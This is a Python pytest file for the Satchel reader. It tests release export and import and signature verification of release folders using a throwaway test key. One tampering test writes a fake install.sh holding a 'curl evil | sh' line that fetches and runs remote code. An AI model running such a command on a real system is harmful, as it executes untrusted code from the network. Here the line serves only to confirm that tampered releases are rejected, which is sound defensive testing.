"""Passing Satchel itself on (`satchel export --with-reader`, issue 16 item 5), and what
`satchel import` says of a release folder it meets on a drive.

The Satchel under test trusts a throwaway release key: `reader.release.CARD`, the key
card a build carries, is pointed at the test key's card, as a build made with that key
built in would carry it (scripts/build-release does the same for a trial release).
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

import reader.release
from bundles.keys import fingerprint
from reader.cli import main
from tests.releases import card, make_release, release_key, snapshot

REPO = Path(__file__).resolve().parents[2]
WELCOME = REPO / "examples" / "welcome.satchel"
KEY = release_key(seed=73, name="Satchel releases (TEST)")
KEY_FINGERPRINT = fingerprint(KEY.publisher_id)


@pytest.fixture(autouse=True)
def trusted_test_key(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reader.release, "CARD", card(KEY, tmp_path / "release-key.card.json"))
    monkeypatch.delenv("SATCHEL_RELEASE_DIR", raising=False)


@pytest.fixture()
def library(tmp_path: Path) -> Path:
    path = tmp_path / "library"
    assert main(["--library", str(path), "import", str(WELCOME)]) == 0
    return path


def files_under(folder: Path) -> dict[str, str]:
    return snapshot(folder) if folder.exists() else {}


def test_export_with_reader_copies_the_release_it_came_from_and_reads_it_back(
        tmp_path: Path, library: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    release = make_release(tmp_path / "kept" / "satchel-9.9.9", KEY)
    monkeypatch.setenv("SATCHEL_RELEASE_DIR", str(release))  # as install.sh's launcher sets
    drive = tmp_path / "drive"
    drive.mkdir()
    capsys.readouterr()
    assert main(["--library", str(library), "export", str(drive), "--with-reader"]) == 0
    out = capsys.readouterr().out
    assert snapshot(drive / "satchel-9.9.9") == snapshot(release)
    assert f"{drive / 'satchel-9.9.9'}: " in out and out.count("verified") == 2
    assert out.rstrip().endswith("Safe to remove the drive.")
    assert list(drive.glob("*.satchel"))  # the articles too
    assert not list(drive.glob("*.part"))


def test_only_reader_with_release_dir_copies_no_articles(
        tmp_path: Path, library: Path, capsys: pytest.CaptureFixture[str]) -> None:
    release = make_release(tmp_path / "dist" / "satchel-9.9.9", KEY)
    drive = tmp_path / "drive"
    drive.mkdir()
    capsys.readouterr()
    assert main(["--library", str(library), "export", str(drive), "--only-reader",
                 "--release", str(release), "--json"]) == 0
    result = json.loads(capsys.readouterr().out)
    assert result["safe_to_remove"] is True and result["articles"] == 0
    assert [Path(f["path"]).name for f in result["files"]] == ["satchel-9.9.9"]
    assert sorted(p.name for p in drive.iterdir()) == ["satchel-9.9.9"]


def test_with_reader_and_no_release_known_is_one_line_and_exit_3(
        tmp_path: Path, library: Path, capsys: pytest.CaptureFixture[str]) -> None:
    drive = tmp_path / "drive"
    drive.mkdir()
    capsys.readouterr()
    assert main(["--library", str(library), "export", str(drive), "--with-reader"]) == 3
    err = capsys.readouterr().err
    assert err.splitlines()[0] == (
        "satchel: this Satchel was not installed from a release folder, so it does not know "
        "one to pass on; give one with --release DIR")
    assert files_under(drive) == {}


@pytest.mark.parametrize("damage", ["flip", "extra"])
def test_a_changed_release_is_refused_naming_the_file_before_anything_is_written(
        tmp_path: Path, library: Path, capsys: pytest.CaptureFixture[str], damage: str) -> None:
    release = make_release(tmp_path / "satchel-9.9.9", KEY)
    wheel = release / "wheels" / "satchel-9.9.9-py3-none-any.whl"
    if damage == "flip":
        data = bytearray(wheel.read_bytes())
        data[100] ^= 1
        wheel.write_bytes(bytes(data))
        named = "wheels/satchel-9.9.9-py3-none-any.whl"
    else:
        (release / "wheels" / "evil-1.0-py3-none-any.whl").write_bytes(b"PK")
        named = "wheels/evil-1.0-py3-none-any.whl"
    drive = tmp_path / "drive"
    drive.mkdir()
    capsys.readouterr()
    assert main(["--library", str(library), "export", str(drive), "--release",
                 str(release)]) == 1
    err = capsys.readouterr().err
    assert err.startswith("satchel: ") and named in err.splitlines()[0]
    assert files_under(drive) == {}  # not even the articles: the release is checked first


def test_import_of_a_drive_with_a_newer_release_says_so_and_how_to_install(
        tmp_path: Path, library: Path, capsys: pytest.CaptureFixture[str]) -> None:
    drive = tmp_path / "drive"
    release = make_release(drive / "satchel-9.9.9", KEY)
    before = snapshot(library)
    capsys.readouterr()
    assert main(["--library", str(library), "import", str(drive)]) == 0
    out = capsys.readouterr().out
    assert out.startswith(f"OK       {release}: Satchel 9.9.9")
    assert "newer     than this Satchel" in out
    assert f"sh {release / 'install.sh'}" in out and "First compare the release fingerprint" in out
    assert "No .satchel files" not in out
    assert snapshot(library) == before  # a release is never imported into the library


def test_import_of_an_older_release_is_not_an_update(
        tmp_path: Path, library: Path, capsys: pytest.CaptureFixture[str]) -> None:
    make_release(tmp_path / "drive" / "satchel-0.0.1", KEY, version="0.0.1")
    capsys.readouterr()
    assert main(["--library", str(library), "import", str(tmp_path / "drive")]) == 0
    out = capsys.readouterr().out
    assert "older     than this Satchel" in out and "install.sh" not in out


def test_import_of_a_tampered_release_is_refused_naming_the_file(
        tmp_path: Path, library: Path, capsys: pytest.CaptureFixture[str]) -> None:
    drive = tmp_path / "drive"
    release = make_release(drive / "satchel-9.9.9", KEY)
    (release / "install.sh").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    (drive / "welcome.satchel").write_bytes(WELCOME.read_bytes())  # bundles beside it
    capsys.readouterr()
    assert main(["--library", str(library), "import", str(drive)]) == 1
    out = capsys.readouterr().out
    first = out.splitlines()[0]
    assert first.startswith("REJECTED") and "install.sh" in first
    assert "welcome.satchel" in out  # the bundles beside it are still imported


def test_import_json_lists_the_release_checks(
        tmp_path: Path, library: Path, capsys: pytest.CaptureFixture[str]) -> None:
    drive = tmp_path / "drive"
    make_release(drive / "satchel-9.9.9", KEY)
    capsys.readouterr()
    assert main(["--library", str(library), "import", str(drive), "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["files"] == []
    assert [(r["verdict"], r["compared"]) for r in data["releases"]] == [("OK", "newer")]


# -- satchel verify RELEASE_DIR (issue 16 item 4), as a person types it ----------------------


def test_verify_of_a_release_folder_says_ok_the_key_and_how_it_compares(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    release = make_release(tmp_path / "satchel-9.9.9", KEY)
    assert main(["verify", str(release)]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[0].startswith(f"OK       {release}: Satchel 9.9.9, 8 files, ")
    assert out[0].endswith("signed by the Satchel release key")
    assert out[1] == f"  key       {KEY.name}  [{KEY_FINGERPRINT}]"
    assert out[2].startswith("  newer     than this Satchel")


@pytest.mark.parametrize(("attack", "named"), [
    ("flip", "'satchel-9.9.9-linux-x86_64.tar.gz'"),
    ("missing", "'install.bat' is missing"),
    ("extra", "'wheels/evil-1.0-py3-none-any.whl' is not part of the release"),
    ("other key", "signed by another key than the Satchel release key"),
])
def test_verify_refuses_a_changed_release_or_another_key_naming_the_file(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], attack: str, named: str) -> None:
    signer = release_key(seed=99, name="Satchel releases") if attack == "other key" else KEY
    release = make_release(tmp_path / "satchel-9.9.9", signer)
    if attack == "flip":
        path = release / "satchel-9.9.9-linux-x86_64.tar.gz"
        data = bytearray(path.read_bytes())
        data[-1] ^= 0x80
        path.write_bytes(bytes(data))
    elif attack == "missing":
        (release / "install.bat").unlink()
    elif attack == "extra":
        (release / "wheels" / "evil-1.0-py3-none-any.whl").write_bytes(b"PK")
    before = snapshot(release)
    assert main(["verify", str(release)]) == 1
    captured = capsys.readouterr()
    assert captured.out.startswith(f"REJECTED {release}: ") and named in captured.out
    assert "Do not install this copy of Satchel" in captured.err
    assert snapshot(release) == before
    assert main(["verify", "--json", str(release)]) == 1
    [data] = json.loads(capsys.readouterr().out)
    assert (data["kind"], data["ok"], data["verdict"]) == ("release", False, "REJECTED")
    assert named in data["error"] and data["error_type"] in ("ReleaseChanged", "ReleaseError")
